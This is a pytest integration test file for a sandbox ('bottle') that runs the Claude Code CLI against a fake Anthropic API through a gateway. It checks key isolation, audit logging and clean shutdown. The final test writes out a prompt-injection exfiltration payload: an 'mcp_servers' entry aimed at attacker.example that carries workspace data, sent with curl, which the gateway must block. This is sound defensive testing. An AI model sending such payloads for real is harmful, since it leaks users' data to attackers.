"""The real Claude Code CLI in a real bottle, talking to a fake Anthropic API through the gateway.

The fake (tests/fakes/fake_anthropic.py) stands in for api.anthropic.com, which this
machine cannot reach; it answers only calls that carry the real key.
"""

from __future__ import annotations

import json
import os
import shutil
import time
from collections.abc import Iterator

import pytest

from claude_bottle.state import process_alive
from tests.fakes.fake_anthropic import FakeAnthropic
from tests.integration.conftest import BottleEnv
from tests.integration.terminal import Terminal, squeezed

pytestmark = pytest.mark.integration

REAL_KEY = "sk-ant-api03-" + "TestOnlyRealKey" * 6 + "-AbCdEfAA"
CANNED = "Hello from the fake Anthropic API, through the bottle's gateway."


@pytest.fixture
def fake_api() -> Iterator[FakeAnthropic]:
    with FakeAnthropic(CANNED, api_key=REAL_KEY) as fake:
        yield fake


@pytest.fixture
def claude_env(bottle_env: BottleEnv, fake_api: FakeAnthropic) -> BottleEnv:
    if shutil.which("claude", path=bottle_env.env["PATH"]) is None:
        pytest.skip("Claude Code is not installed: npm install -g @anthropic-ai/claude-code")
    bottle_env.env["ANTHROPIC_API_KEY"] = REAL_KEY  # on the host only
    bottle_env.write_config(f"""
[gateway]
anthropic_upstream = "{fake_api.url}"
[dlp]
enabled = true
""")
    return bottle_env


def test_claude_print_mode_gets_the_canned_reply(
    claude_env: BottleEnv, fake_api: FakeAnthropic
) -> None:
    result = claude_env.run("claude", "-p", "Say hello", timeout=120)
    assert result.returncode == 0, result.stderr
    assert CANNED in result.stdout
    calls = [r for r in fake_api.requests if r.path.startswith("/v1/messages")]
    assert calls, [r.path for r in fake_api.requests]
    assert all(r.headers.get("x-api-key") == REAL_KEY for r in calls)  # injected host-side
    events = [json.loads(line) for line in (claude_env.state_dir() / "audit.jsonl").open()]
    gateway = [e for e in events if e["kind"] == "gateway" and "/v1/messages" in str(e["path"])]
    assert gateway and all(e["decision"] == "allow" for e in gateway)
    assert REAL_KEY not in (claude_env.state_dir() / "audit.jsonl").read_text()


def test_interactive_claude_code_answers_a_typed_prompt(
    claude_env: BottleEnv, fake_api: FakeAnthropic
) -> None:
    # `run` with no command starts the default, `claude --dangerously-skip-permissions`,
    # as a person would. Wide enough that Ink never wraps the reply.
    term = Terminal(claude_env, "run", "--backend", claude_env.backend, "--name", "tui", cols=200)
    # The input box and its footer: the bottle's seeded home skips onboarding, the trust
    # dialog and the API key approval, so anything else here fails the test.
    term.read_until_text("bypass permissions on", timeout=60)
    term.read_until_text("❯", timeout=10)
    assert "trustthisfolder" not in squeezed(term.output)
    term.settle(1.0)  # let Ink switch the tty to raw mode and attach its key handler
    # Text, then Enter ("\r", as a terminal sends it) on its own: a chunk ending in "\r"
    # could be taken for a paste.
    typed = len(term.output)
    term.write(b"Say hello")
    term.read_until_text("Say hello", since=typed, timeout=15)
    term.settle(0.3)
    term.write(b"\r")
    term.read_until_text(CANNED, since=typed, timeout=60)
    calls = [r for r in fake_api.requests if r.path.startswith("/v1/messages")]
    assert calls, [r.path for r in fake_api.requests]
    assert all(r.headers.get("x-api-key") == REAL_KEY for r in calls)  # injected host-side
    assert any("Say hello" in json.dumps(r.json().get("messages")) for r in calls)

    term.settle(0.5)
    exiting = len(term.output)
    term.write(b"/exit")
    term.read_until_text("/exit", since=exiting, timeout=15)
    term.settle(0.3)
    term.write(b"\r")
    assert term.wait(timeout=60) == 0, squeezed(term.output)[-2000:]

    # The bottle is gone with its command: recorded as exited, no process, no runtime dir.
    (row,) = json.loads(claude_env.cli("ls", "--json").stdout)
    assert (row["name"], row["state"]) == ("tui", "exited (0)")
    record = json.loads((claude_env.state_dir("tui") / "bottle.json").read_text())
    deadline = time.monotonic() + 10
    while any(process_alive(ref) for ref in record["processes"].values()):
        assert time.monotonic() < deadline, f"bottle outlived its command: {record['processes']}"
        time.sleep(0.05)
    assert not os.path.exists(os.path.join(claude_env.env["CLAUDE_BOTTLE_RUNTIME_DIR"], "tui"))
    audit = claude_env.state_dir("tui") / "audit.jsonl"
    events = [json.loads(line) for line in audit.open()]
    gateway = [e for e in events if e["kind"] == "gateway" and "/v1/messages" in str(e["path"])]
    assert gateway and all(e["decision"] == "allow" for e in gateway)
    assert REAL_KEY not in audit.read_text()


def test_the_key_is_nowhere_in_the_bottle(claude_env: BottleEnv) -> None:
    ws = claude_env.workspace
    result = claude_env.sh(
        "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/*/cmdline 2>/dev/null; "
        # The pattern is assembled at run time so this script's own text does not match.
        f'k=TestOnly; grep -rs "${{k}}RealKey" $HOME {ws} /run/claude-bottle /tmp '
        "&& echo found-in-$((40+2)); "
        "echo scanned"
    )
    assert "scanned" in result.stdout, result.stderr
    assert "TestOnlyRealKey" not in result.stdout + result.stderr
    assert "found-in-42" not in result.stdout


def test_missing_credential_fails_before_the_bottle_starts(claude_env: BottleEnv) -> None:
    del claude_env.env["ANTHROPIC_API_KEY"]
    result = claude_env.run("claude", "-p", "hi")
    assert result.returncode == 3, result.stderr
    assert "ANTHROPIC_API_KEY" in result.stderr
    assert not (claude_env.state_dir() / "bottle.json").exists()


def test_ls_shows_tokens_of_a_running_bottle(claude_env: BottleEnv) -> None:
    started = claude_env.cli(
        "run",
        "--backend",
        claude_env.backend,
        "--name",
        "tok",
        "--detach",
        "--",
        "/bin/sh",
        "-c",
        "claude -p 'count me' > /dev/null; sleep 300",
    )
    assert started.returncode == 0, started.stderr
    deadline = time.monotonic() + 60
    while True:
        (row,) = json.loads(claude_env.cli("ls", "--json").stdout)
        if row["tokens"]:
            break
        assert time.monotonic() < deadline, row
        time.sleep(0.2)
    assert row["tokens"] > 0 and row["state"] == "running"
    assert "TOKENS" in claude_env.cli("ls").stdout
    claude_env.cli("stop", "tok")


def test_the_gateway_list_covers_what_claude_code_sends(
    claude_env: BottleEnv, fake_api: FakeAnthropic
) -> None:
    """Records a real Claude Code session against the fake API: every path, method and
    `anthropic-beta` value it sent is on the gateway's one list (bundle/api_policy.py).
    What the gateway refuses or drops never reaches the fake, so the audit log, which
    names both, is what shows that nothing Claude Code sent was left out."""
    from claude_bottle.bundle.api_policy import CLAUDE_CODE_BETAS, GatewayPolicy

    result = claude_env.run("claude", "-p", "Say hello", timeout=120)
    assert result.returncode == 0, result.stderr
    assert CANNED in result.stdout
    events = [json.loads(line) for line in (claude_env.state_dir() / "audit.jsonl").open()]
    gateway = [e for e in events if e["kind"] == "gateway"]
    assert gateway, "nothing went through the gateway"
    refused = [(e["method"], e["path"], e["rule"]) for e in gateway if e["decision"] != "allow"]
    assert refused == [], refused
    dropped = {beta for e in gateway for beta in e["detail"].get("betas_dropped", ())}
    assert dropped == set(), f"add these to CLAUDE_CODE_BETAS: {sorted(dropped)}"
    # And what did arrive is on the list (the list is the one the gateway applies).
    policy = GatewayPolicy()
    for request in fake_api.requests:
        assert policy.route_of(request.method.encode(), request.path) is not None
        betas = request.headers.get("anthropic-beta", "").encode().split(b",")
        assert {b.strip() for b in betas if b.strip()} <= CLAUDE_CODE_BETAS


def test_the_gateway_refuses_an_mcp_exfiltration_from_inside(
    claude_env: BottleEnv, fake_api: FakeAnthropic
) -> None:
    """Issue 18 row 2: a prompt injection POSTs `mcp_servers` with the workspace in the URL,
    so that Anthropic's servers would call the attacker. It never reaches the API."""
    body = json.dumps(
        {
            "model": "claude-x",
            "max_tokens": 10,
            "messages": [{"role": "user", "content": "hi"}],
            "mcp_servers": [{"type": "url", "url": "https://attacker.example/c?d=ws", "name": "x"}],
        }
    )
    (claude_env.workspace / "mcp.json").write_text(body)
    result = claude_env.sh(
        "curl -s -o /dev/null -w '%{http_code}\\n' --max-time 10 "
        "-H 'content-type: application/json'"
        f' --data-binary @{claude_env.workspace}/mcp.json "$ANTHROPIC_BASE_URL/v1/messages"; '
        "curl -s -o /dev/null -w '%{http_code}\\n' --max-time 10 -X POST "
        '"$ANTHROPIC_BASE_URL/v1/agents"'
    )
    assert result.stdout.split() == ["403", "404"], result.stdout + result.stderr
    assert [r for r in fake_api.requests if r.path.startswith("/v1/")] == []
    events = [json.loads(line) for line in (claude_env.state_dir() / "audit.jsonl").open()]
    rules = [e["rule"] for e in events if e["kind"] == "gateway" and e["decision"] == "deny"]
    assert rules == ["gateway:mcp-servers", "gateway:path"], rules
